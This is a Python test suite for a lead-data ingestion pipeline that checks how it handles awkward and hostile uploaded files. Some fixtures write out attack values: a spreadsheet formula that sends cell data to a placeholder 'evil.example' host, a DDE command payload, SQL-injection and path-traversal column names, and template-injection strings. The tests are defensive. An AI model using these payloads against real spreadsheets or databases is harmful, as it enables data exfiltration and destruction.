"""What must hold after each of the nasty files has come: the 'check' column of their list, sentence by sentence."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import time
import tracemalloc
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import numpy as np

from leadline.data.exports.safe_csv import safe_csv
from leadline.data.landing.land import FileReport, IngestOptions, land, rejected_rows_csv, undo
from leadline.data.warehouse import Warehouse
from leadline.metrics.agreement.catalog import load_catalog
from leadline.metrics.cohorts import Calendar, rate_table
from tests.data.example_exports import column, land_text, lines, tables

Check = Callable[[Warehouse, FileReport], None]
"""fails where the sentence does not hold"""

MOST_MEMORY = 30 << 20
"""bytes that refusing a file may take"""


def says(sql: str, *expected: object) -> Check:
    """The query's first column holds exactly these values."""

    def check(warehouse: Warehouse, report: FileReport) -> None:
        assert column(warehouse, sql) == list(expected), sql

    return check


def words(*wanted: str, never: str = "") -> Check:
    """The message, or a warning, holds these words."""

    def check(warehouse: Warehouse, report: FileReport) -> None:
        said = " ".join([report.message, *(warned.message for warned in report.warnings)])
        assert all(word in said for word in wanted), said
        assert not never or never not in said, said

    return check


def every(*checks: Check) -> Check:
    def check(warehouse: Warehouse, report: FileReport) -> None:
        for one in checks:
            one(warehouse, report)

    return check


def headings(*wanted: str) -> Check:
    def check(warehouse: Warehouse, report: FileReport) -> None:
        (found,) = column(
            warehouse, f"select header from landed.imports where import_id = {int(report.import_id or 0)}"
        )
        assert tuple(found) == wanted

    return check


def reading(**wanted: Any) -> Check:
    """How the file was read, as it is kept with the import."""

    def check(warehouse: Warehouse, report: FileReport) -> None:
        (kept,) = column(
            warehouse, f"select reading from landed.imports where import_id = {int(report.import_id or 0)}"
        )
        assert {name: json.loads(kept)[name] for name in wanted} == wanted

    return check


def set_aside(raw: Mapping[int, str]) -> Check:
    """Exactly these lines are quarantined; the page's table holds each line with its text, cut."""

    def check(warehouse: Warehouse, report: FileReport) -> None:
        told = [
            line for reason in report.reasons if reason.reason != "exact_duplicate" for line in reason.rows
        ]
        assert sorted(told) == sorted(raw)
        shown = rejected_rows_csv(warehouse, report.import_id or 0)
        assert len(shown) < 10_000
        rows = {int(row["line"]): row["row"] for row in csv.DictReader(io.StringIO(shown, newline=""))}
        assert set(rows) == set(raw)
        for line, text in raw.items():
            assert text in rows[line]

    return check


def answered(check: Check, **options: Any) -> Check:
    """The check holds once the question has been answered."""

    def checked(warehouse: Warehouse, report: FileReport) -> None:
        assert report.questions
        after = land(warehouse, Path(report.file), IngestOptions(**options))
        assert after.state == "landed", after.message
        check(warehouse, after)
        undo(warehouse, after.import_id or 0)

    return checked


def quarantines(reason: str, count: int) -> Check:
    def check(warehouse: Warehouse, report: FileReport) -> None:
        assert {entry.reason: entry.count for entry in report.reasons}.get(reason) == count

    return check


def no_row_since(warehouse: Warehouse, report: FileReport) -> None:
    """Nothing but what stood before: the two leads that every refused file comes after."""
    assert report.import_id is None
    assert column(warehouse, "select import_id from landed.imports") == [1]
    assert column(warehouse, "select lead_id from facts.leads order by 1") == ["L1", "L2"]
    assert column(warehouse, "select count(*) from landed.quarantine") == [0]


def little_memory(warehouse: Warehouse, report: FileReport) -> None:
    tracemalloc.start()
    again = land(warehouse, Path(report.file))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert again.code == report.code
    assert peak < MOST_MEMORY, f"{peak >> 20} MB"
    assert list(warehouse.intake.iterdir()) == []


def quick(seconds: float) -> Check:
    """Previewing the file with its many columns takes less processor time than this."""

    def check(warehouse: Warehouse, report: FileReport) -> None:
        undo(warehouse, report.import_id or 0)
        began = time.process_time()
        preview = land(warehouse, Path(report.file), IngestOptions(dry_run=True))
        assert time.process_time() - began < seconds
        assert preview.columns[0].heading == "lead_id"
        assert len(preview.columns) == 2000

    return check


def _asked_which_date(warehouse: Warehouse, report: FileReport) -> None:
    assert [question.code for question in report.questions] == ["duplicate_header"]
    assert {"Date", "Date (2)", "Owner", "Owner (2)"} <= {one.heading for one in report.columns}
    assert "created_at" in report.questions[0].message
    assert "'Date (2): created_at'" in report.questions[0].option


def _no_rate_of_nobody(warehouse: Warehouse, report: FileReport) -> None:
    calendar = Calendar(dt.date(2026, 1, 5), 47)
    table = rate_table(warehouse, load_catalog(None)["open_rate"], "Nurture A", calendar)
    weeks = [str(calendar.start(week)) for week in np.flatnonzero(table.cohorts.entered.sum(axis=0))]
    assert weeks == ["2026-01-05", "2026-01-26", "2026-02-09"]  # C1, C4, C6; nobody got C5


def _joins_as_text(warehouse: Warehouse, report: FileReport) -> None:
    rows = [f"D{n},{lead},2026-02-01,won" for n, lead in enumerate(("000123", "123", "7", "0007"))]
    land_text(warehouse, lines("deal_id,lead_id,created_at,stage", *rows), name="deals.csv")
    joined = column(
        warehouse, "select lead.lead_id from facts.deals join facts.leads as lead using (lead_id) order by 1"
    )
    assert joined == ["000123", "123", "7"]


def _history_of_stages(warehouse: Warehouse, report: FileReport) -> None:
    logged = warehouse.select(
        "select was.deal_id, was.stage, became.stage from landed.superseded as gone "
        "join landed.deals as was on gone.import_id = was.import_id and gone.line = was.line "
        "join landed.deals as became on became.import_id = gone.by_import and became.deal_id = was.deal_id "
        "where gone.template = 'deals' and gone.import_id <> gone.by_import order by 1"
    )
    assert logged == [
        ("D504", "lost", "won"), ("D505", "open", "lost"), ("D508", "open", "won"), ("D509", "won", "won"),
    ]  # fmt: skip


def _stored_as_typed(warehouse: Warehouse, report: FileReport) -> None:
    assert column(warehouse, "select owner from facts.leads order by line") == [
        '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "=1+1",
    ]  # fmt: skip


def _safe_downloads(warehouse: Warehouse, report: FileReport) -> None:
    cells = warehouse.select("select owner, channel, lead_id from facts.leads")
    text = safe_csv(cells, ("owner", "channel", "lead_id"))
    assert not any(cell.lstrip('" ').startswith(("=", "+", "-", "@", "\t")) for cell in text.split(","))


CHECKS: dict[str, Check] = {
    "google_ads_utf16_tab.csv": says(
        "select round(sum(cost), 2) from facts.spend union all select count(clicks) from facts.spend "
        "union all select count(*) from facts.spend where clicks = 0 or cost = 0",
        2076.68,
        4,
        0,
    ),
    "utf8_bom.csv": says("select header[1] from landed.imports", "lead_id"),
    "cp1252_curly.csv": says(
        "select owner from facts.leads where line in (2, 5) order by line", "O’Brien “OB”", "€100 club"
    ),
    "semicolon_decimal_comma.csv": says(
        "select sum(amount) from facts.deals union all select amount from facts.deals where line = 2",
        21255.0,
        1000.5,
    ),
    "space_after_comma.csv": every(
        says("select channel from facts.leads order by line limit 1", "Paid, Organic Search"),
        headings("lead_id", "created_at", "source"),
    ),
    "preamble_lines.csv": every(says("select min(line) from facts.deals", 7), reading(header_line=6)),
    "salesforce_footer.csv": every(
        says(
            "select count(*) from facts.deals where created_at::date between '2026-01-05' and '2026-01-27' "
            "union all select count(*) from facts.deals where currency = 'USD' and amount between 1000 and 3750 "
            "union all select count(*) from landed.deals where columns(*)::varchar like '%Confidential%'",
            12,
            12,
            0,
        ),
        reading(styles={"amount": "point", "closed_at": "mdy", "created_at": "mdy"}),
    ),
    "totals_row.csv": says("select sum(recipients) from facts.campaigns", 7021),
    "ga4_comments.csv": every(
        says("select sum(visits) from facts.spend", 510),
        says(
            "select spent_on::date::varchar from facts.spend order by 1",
            *(f"2026-01-0{day}" for day in (5, 6, 7, 8, 9)),
        ),
    ),
    "duplicate_headers.csv": every(
        words("'Date'", "'Date (2)'"),
        _asked_which_date,
        answered(
            says(
                "select min(created_at)::date::varchar from facts.leads where lead_id like 'L10%' union all "
                "select min(attributes['Date']) from facts.leads where lead_id like 'L10%'",
                "2026-02-01",
                "2026-01-05 00:00",
            ),
            mapping={"template": "leads", "columns": {"Date (2)": "created_at"}, "attributes": ["Date"]},
        ),
        answered(
            says("select min(created_at)::date::varchar from facts.leads where lead_id like 'L10%'", "2026-01-05"),
            mapping={"template": "leads", "columns": {"Date": "created_at"}},
        ),
    ),
    "header_whitespace.csv": says(
        "select count(created_at) from facts.leads union all select count(distinct lead_id) from facts.leads",
        4,
        4,
    ),
    "sql_column_names.csv": every(
        headings(
            "lead_id", "created_at", '"; DROP TABLE leads; --', "name'); DELETE FROM deals;--", "select", 'a"b',
            "../../etc/passwd", "{{7*7}}",
        ),
        says(
            "select list_sort(map_keys(attributes))::varchar from facts.leads limit 1",
            "['\"; DROP TABLE leads; --', ../../etc/passwd, 'a\"b', 'name\\'); DELETE FROM deals;--', select, "
            "'{{7*7}}']",
        ),
        says("select count(*) from landed.leads where columns(*)::varchar like '%49%'", 0),
        lambda warehouse, report: _holds({"landed.leads", "landed.deals"} <= set(tables(warehouse))),
    ),
    "cols_2000.csv": quick(2.0),
    "empty.csv": every(words("is empty"), no_row_since),
    "header_only.csv": no_row_since,
    "binary_png.csv": no_row_since,
    "html_table.xls": words("export it again as CSV or .xlsx"),
    "ragged_rows.csv": set_aside({
        3: "L1001,2026-01-07 01:00,Paid Search,Ben Okoro",
        5: "L1003,2026-01-11 03:00,Referral,Dmitri Sokolov,",
        7: "L1005,2026-01-15 05:00,Organic Search,Ben Okoro,",
    }),
    "embedded_newlines.csv": every(
        says("select count(*) from facts.leads", 5),
        says(
            "select attributes['note'] from facts.leads where lead_id in ('L1001', 'L1002') order by 1 desc",
            "two\nlines",
            'said "yes",\nthen left',
        ),
    ),
    "unbalanced_quote.csv": every(
        set_aside({4: 'L1002,2026-01-09 02:00,Email,"Chlo'}),
        says("select lead_id from facts.leads order by 1", "L1000", "L1001", "L1003", "L1004", "L1005"),
    ),
    "million_char_cell.csv": set_aside({3: ""}),
    "mixed_line_endings.csv": says(
        "select count(*) from facts.leads where columns(*)::varchar like '%' || chr(13) || '%' "
        "union all select count(*) from facts.leads",
        0,
        6,
    ),
    "gzip_bomb.csv.gz": every(no_row_since, little_memory),
    "ambiguous_dates.csv": every(
        answered(
            every(
                says("select min(created_at)::date::varchar from facts.deals", "2025-04-03"),
                reading(styles=dict.fromkeys(("closed_at", "created_at", "modified_at"), "dmy")),
            ),
            dates="dmy",
        ),
        answered(says("select min(created_at)::date::varchar from facts.deals", "2025-03-04"), dates="mdy"),
    ),
    "mixed_dmy_mdy.csv": words("13/01/2026", "01/14/2026"),
    "iso_offsets.csv": every(
        says(
            "select created_at::varchar from facts.leads order by lead_id limit 5",
            "2026-01-05 07:30:00",
            "2026-01-04 18:45:00",
            "2026-01-05 07:30:00",
            "2026-01-11 23:59:59.999",
            "2026-01-12 00:00:00",
        ),
        says(
            "select date_trunc('week', created_at)::date::varchar from facts.leads order by lead_id limit 5",
            "2026-01-05",
            "2025-12-29",
            "2026-01-05",
            "2026-01-05",
            "2026-01-12",
        ),
    ),
    "excel_serials.csv": every(
        words("46027", "2026-01-05", "46042.5", "2026-01-20 12:00"),
        says("select min(created_at)::varchar from facts.deals", "2026-01-05 00:00:00"),
        says("select min(closed_at)::varchar from facts.deals", "2026-01-20 12:00:00"),
    ),
    "many_formats.csv": says("select distinct created_at::date::varchar from facts.deals", "2026-01-05"),
    "close_before_create.csv": every(
        says(
            "select median(date_diff('day', created_at, closed_at)) >= 0 from facts.deals "
            "where closed_at is not null",
            True,
        ),
        says("select count(*) from facts.deals where deal_id in ('D2', 'D3')", 1),
    ),
    "future_dates.csv": says("select max(created_at) < '2027-01-01' from facts.leads", True),
    "currency_eu.csv": says(
        "select round(sum(amount), 2) from facts.deals union all select min(amount) from facts.deals where line = 3 "
        "union all select count(*) from facts.deals where currency = 'EUR'",
        3432.61,
        1000.0,
        6,
    ),
    "percent_forms.csv": every(
        answered(quarantines("rate_over_100", 1), percent="percent"),
        answered(
            says(
                "select round(open_rate, 5) from facts.campaigns order by campaign_id",
                0.125,
                0.00125,
                0.125,
                0.125,
                None,
                None,
                0.005,
            ),
            percent="percent",
        ),
    ),
    "missing_tokens.csv": says(
        "select count(*) - count(first_response_at) from facts.leads union all "
        "select avg(date_diff('minute', created_at, first_response_at)) from facts.leads union all "
        "select min(date_diff('minute', created_at, first_response_at)) from facts.leads",
        11,
        7.5,
        0,
    ),
    "impossible_metrics.csv": every(
        says("select recipients from facts.campaigns order by campaign_id", 100, 100, 0, 1000),
        says("select campaign_id from facts.campaigns order by campaign_id", "C1", "C4", "C5", "C6"),
        _no_rate_of_nobody,
    ),
    "duplicate_ids_conflict.csv": says("select count(*) from facts.deals where deal_id = 'D3'", 0),
    "same_twice_2.csv": says("select count(*) from facts.leads", 10),
    "same_twice_3_reordered.csv": says("select count(*) from facts.leads", 10),
    "overlap_week2.csv": every(
        says("select count(*) from facts.deals", 14),
        says("select stage from facts.deals where deal_id = 'D506'", "won"),
        _history_of_stages,
    ),
    "leading_zero_ids.csv": every(
        says(
            "select count(distinct lead_id) from facts.leads union all "
            "select count(*) from facts.leads where lead_id in ('000123', '0123', '123')",
            6,
            3,
        ),
        _joins_as_text,
    ),
    "missing_ids.csv": words("'L5' and 'l5'"),
    "formula_injection.csv": every(_stored_as_typed, _safe_downloads),
    "html_script.csv": says(  # that pages show it literally is for tests/browser/test_hostile.py
        "select workflow from facts.leads order by line",
        "<b>Nurture</b>",
        "A & B",
        "${7*7}",
        "Nurture",
        "`rm -rf`",
    ),
    "xlsx_title_merged.xlsx": every(
        says("select sum(amount) from facts.deals", 618.0),
        headings("ID", "Name", "Created", "Closed", "Stage", "Amount"),
        reading(header_line=5),
    ),
    "xlsx_date_serials.xlsx": says(
        "select min(created_at)::varchar from facts.deals union all select max(created_at)::varchar from facts.deals "
        "union all select min(closed_at)::varchar from facts.deals",
        "2026-01-05 00:00:00",
        "2026-01-09 00:00:00",
        "2026-01-20 18:00:00",
    ),
    "xlsx_hidden_rows.xlsx": every(words("2 rows are hidden"), says("select count(*) from facts.leads", 6)),
    "xlsx_bomb.xlsx": every(no_row_since, little_memory),
    "xlsx_xxe.xlsx": every(words(never="root:"), no_row_since),
    "xlsx_password.xlsx": words("protected by a password", never="corrupt"),
}  # fmt: skip
"""file → what its 'check' column says"""


def _holds(fact: bool) -> None:
    assert fact
